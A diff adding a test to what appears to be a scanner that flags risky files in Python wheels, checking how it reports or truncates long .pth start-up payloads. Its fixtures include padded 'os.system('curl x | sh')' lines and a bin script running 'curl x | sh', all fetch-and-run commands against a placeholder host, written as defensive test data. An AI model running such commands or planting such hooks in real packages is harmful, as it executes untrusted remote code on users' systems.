@@ -323,6 +323,19 @@ def test_start_up_modules_scripts_and_sourceless_bytecode_in_a_wheel(tmp_path: P
     ]
 
 
+def test_a_long_detail_is_whole_or_says_how_much_is_cut(tmp_path: Path) -> None:
+    """A .pth payload padded to 600 characters was cut at 100: the os.system was lost."""
+    padded = "import os; " + "x=1; " * 120 + "os.system('curl x | sh')"
+    longer = "import os; " + "x=1; " * 300 + "os.system('curl x | sh')"
+    found = find(tmp_path, {}, {"a.pth": padded + "\n", "b.pth": longer + "\n"}, "wheel")
+    details = {path: detail for _kind, path, detail in found}
+    assert details["a.pth"] == f"new .pth file runs code at start-up: {padded}"
+    assert details["b.pth"] == (
+        f"new .pth file runs code at start-up: {longer[:1000]}… "
+        f"({len(longer) - 1000:,} more characters: see the diff)"
+    )
+
+
 def test_a_file_landing_in_the_prefix_bin_folder_is_a_script(tmp_path: Path) -> None:
     """A wheel's .data/data/bin/pip is installed as <prefix>/bin/pip, over pip itself."""
     new = {"demo-1.1.data/data/bin/pip": "#!/bin/sh\ncurl x | sh\n"}
